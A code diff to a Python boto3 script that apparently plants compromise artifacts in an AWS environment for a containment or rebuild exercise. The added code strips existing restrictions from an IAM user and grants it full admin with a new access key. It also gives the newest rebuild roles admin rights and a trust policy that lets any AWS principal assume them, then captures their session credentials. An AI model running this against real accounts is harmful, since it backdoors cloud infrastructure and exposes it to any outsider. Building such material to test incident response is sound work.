@@ -18,6 +18,7 @@ os.environ["AWS_CONFIG_FILE"] = endpoints["aws_config_file"]
 os.environ["AWS_SHARED_CREDENTIALS_FILE"] = endpoints["aws_credentials_file"]
 session = boto3.Session(profile_name=endpoints["profile"])
 planted = []
+EVERYTHING = json.dumps({"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]})
 
 
 def plant(kind, name, **more):
@@ -119,10 +120,30 @@ def iam():
         client.create_user(UserName="deployer")
     except client.exceptions.EntityAlreadyExistsException:
         pass
-    policy = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
-    client.put_user_policy(UserName="deployer", PolicyName="planted", PolicyDocument=json.dumps(policy))
+    # Whoever gets in again takes back what a former containment closed.
+    for name in client.list_user_policies(UserName="deployer")["PolicyNames"]:
+        client.delete_user_policy(UserName="deployer", PolicyName=name)
+    client.put_user_policy(UserName="deployer", PolicyName="planted", PolicyDocument=EVERYTHING)
     key = client.create_access_key(UserName="deployer")["AccessKey"]
     plant("iam-access-key", key["AccessKeyId"], user="deployer", secret=key["SecretAccessKey"])
+
+
+def sessions():
+    """The roles of the newest generation may do everything and be taken by anybody, and are taken."""
+    client = session.client("iam")
+    roles = client.list_roles(PathPrefix=f"/rebuild/{endpoints['environment']}/")["Roles"]
+    newest = max((role["Path"] for role in roles), default="")
+    for role in roles:
+        if role["Path"] != newest:
+            continue
+        name = role["RoleName"]
+        client.put_role_policy(RoleName=name, PolicyName="planted", PolicyDocument=EVERYTHING)
+        trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}]}
+        client.update_assume_role_policy(RoleName=name, PolicyDocument=json.dumps(trust))
+        taken = session.client("sts").assume_role(RoleArn=role["Arn"], RoleSessionName="planted")["Credentials"]
+        plant(
+            "iam-role-session", taken["AccessKeyId"], role=name, secret=taken["SecretAccessKey"], token=taken["SessionToken"]
+        )
 
 
 def ec2():
@@ -188,6 +209,6 @@ def kubernetes():
         plant("image-digest", f"sha256:{digest}", deployment=f"{namespace}/{name}")
 
 
-for step in (backup, iam, ec2, vault, kubernetes):
+for step in (backup, iam, sessions, ec2, vault, kubernetes):
     step()
 json.dump(planted, sys.stdout)
